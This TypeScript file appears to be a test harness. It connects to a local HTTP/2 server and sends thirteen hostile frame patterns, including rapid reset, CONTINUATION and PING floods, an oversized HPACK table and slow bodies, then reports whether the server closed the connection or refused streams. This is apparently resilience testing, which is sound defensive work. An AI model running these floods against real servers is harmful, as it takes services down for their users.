/**
 * HTTP/2 (RFC 9113) as a hostile agent would speak it, frame by frame, run inside its namespace: `h2-abuse.ts KIND ADDRESS PORT NAME CA`.
 * Sends what the kind says, then keeps the connection until standard input ends. Prints one line when all is sent or the other
 * side has ended it, and one at the end: `{"closed": …, "goaway": …, "refused": …, "frames": …}`; `refused` counts the streams that were reset
 * or answered. Before that one it waits, 5 s at most, until the connection has ended (`closed` on standard input), or as many streams were refused as standard input said.
 */
import { connect } from 'node:tls';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';

const [kind = '', address = '', port = '', name = '', ca = ''] = process.argv.slice(2);

const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const GOAWAY = 7;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

const frame = (type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const setting = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), u32(value)]);

/** An integer of HPACK (RFC 7541, 5.1). */
const integer = (value: number, bits: number, flags: number): Buffer => {
  const most = 2 ** bits - 1;
  if (value < most) return Buffer.from([flags | value]);
  const bytes = [flags | most];
  for (value -= most; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 128);
  return Buffer.from([...bytes, value]);
};
const text = (value: string): Buffer => Buffer.concat([integer(value.length, 7, 0), Buffer.from(value)]);
const header = (field: string, value: string): Buffer => Buffer.concat([Buffer.from([0]), text(field), text(value)]);
const indexed = (field: string, value: string): Buffer => Buffer.concat([Buffer.from([0x40]), text(field), text(value)]);
const requestOf = (path: string, method = 'GET'): Buffer =>
  Buffer.concat([header(':method', method), header(':scheme', 'https'), header(':path', path), header(':authority', name)]);

/** What each kind sends, after the preface and empty settings. */
const KINDS: Readonly<Record<string, () => Generator<Buffer>>> = {
  *'rapid reset'() {
    for (let stream = 1; stream < 40_000; stream += 2)
      yield Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, stream, requestOf('/')), frame(RST_STREAM, 0, stream, u32(8))]);
  },
  *'continuation flood'() {
    yield frame(HEADERS, END_STREAM, 1, requestOf('/'));
    for (let i = 0; i < 50_000; i++) yield frame(CONTINUATION, 0, 1, header(`x-${i}`, 'y'.repeat(1_000)));
  },
  *'empty continuations'() {
    yield frame(HEADERS, END_STREAM, 1, requestOf('/'));
    for (let i = 0; i < 100_000; i++) yield frame(CONTINUATION, 0, 1);
  },
  *'ten thousand headers'() {
    for (let stream = 1; stream < 40; stream += 2) {
      yield frame(HEADERS, END_STREAM, stream, requestOf('/'));
      for (let i = 0; i < 10; i++) yield frame(CONTINUATION, 0, stream, Buffer.concat(Array.from({ length: 1_000 }, (_, n) => header(`x${i}${n}`, 'y'))));
      yield frame(CONTINUATION, END_HEADERS, stream);
    }
  },
  *'huge HPACK tables'() {
    yield frame(SETTINGS, 0, 0, setting(1, 0xffff_ffff));
    for (let stream = 1; stream < 4_000; stream += 2)
      yield frame(HEADERS, END_HEADERS | END_STREAM, stream, Buffer.concat([requestOf('/'), indexed(`x-${stream}`, 'y'.repeat(4_000))]));
  },
  *'a table of two gigabytes'() {
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([integer(2 ** 31, 5, 0x20), requestOf('/')]));
  },
  *'ping flood'() {
    for (let i = 0; i < 200_000; i++) yield frame(PING, 0, 0, Buffer.alloc(8, i));
  },
  *'settings flood'() {
    for (let i = 0; i < 200_000; i++) yield frame(SETTINGS, 0, 0, setting(3, 100));
  },
  *'empty data'() {
    yield frame(HEADERS, END_HEADERS, 1, requestOf('/', 'POST'));
    for (let i = 0; i < 200_000; i++) yield frame(DATA, 0, 1);
  },
  *'window updates'() {
    for (let i = 0; i < 200_000; i++) yield frame(WINDOW_UPDATE, 0, 0, u32(1));
  },
  *'priority storm'() {
    for (let i = 0; i < 200_000; i++) yield frame(PRIORITY, 0, 1 + 2 * (i % 5_000), Buffer.concat([u32(1 + 2 * ((i * 7) % 5_000)), Buffer.from([i % 256])]));
  },
  *'nobody reads'() {
    yield frame(SETTINGS, 0, 0, setting(4, 0));
    for (let stream = 1; stream < 200; stream += 2) yield frame(HEADERS, END_HEADERS | END_STREAM, stream, requestOf('/bytes?mib=8'));
  },
  *'slow bodies'() {
    for (let stream = 1; stream < 200; stream += 2) yield frame(HEADERS, END_HEADERS, stream, requestOf('/bytes?mib=0', 'POST'));
    for (let i = 0; i < 5_000; i++) yield frame(DATA, 0, 1 + 2 * (i % 100), Buffer.from('x'));
  },
};

const socket = connect({ host: address, port: Number(port), servername: name, ca: readFileSync(ca), ALPNProtocols: ['h2'] });
let closed = false;
let goaway = false;
let frames = 0;
const refused = new Set<number>();
/** Called when something of the above may have changed. */
let changed = (): void => {};
let received: Buffer = Buffer.alloc(0);
socket.on('error', () => {});
socket.once('close', () => {
  closed = true;
  changed();
});
socket.on('data', (data: Buffer) => {
  received = Buffer.concat([received, data]);
  for (let length = 0; received.length >= 9 && received.length >= (length = 9 + received.readUIntBE(0, 3)); received = received.subarray(length)) {
    const type = received.readUInt8(3);
    if (type === GOAWAY) goaway = true;
    if (type === RST_STREAM || type === HEADERS) refused.add(received.readUInt32BE(5));
  }
  changed();
});
const say = (): void => void process.stdout.write(`${JSON.stringify({ closed, goaway, refused: refused.size, frames })}\n`);

/** `once` of node:events would throw at the reset that is to be expected. */
const drainedOrClosed = (): Promise<void> =>
  new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done).off('close', done);
      resolve();
    };
    if (socket.destroyed) return resolve();
    socket.once('drain', done).once('close', done);
  });

await once(socket, 'secureConnect');
socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]));
for (const bytes of KINDS[kind]!()) {
  if (closed) break;
  frames++;
  if (!socket.write(bytes)) await drainedOrClosed();
}
say();
let wanted = '';
process.stdin.setEncoding('utf8').on('data', (text: string) => (wanted += text));
await once(process.stdin, 'end');
await new Promise<void>((resolve) => {
  setTimeout(resolve, 5_000);
  changed = () => {
    if (closed || (wanted !== 'closed' && (goaway || refused.size >= Number(wanted)))) resolve();
  };
  changed();
});
say();
process.exit(0);
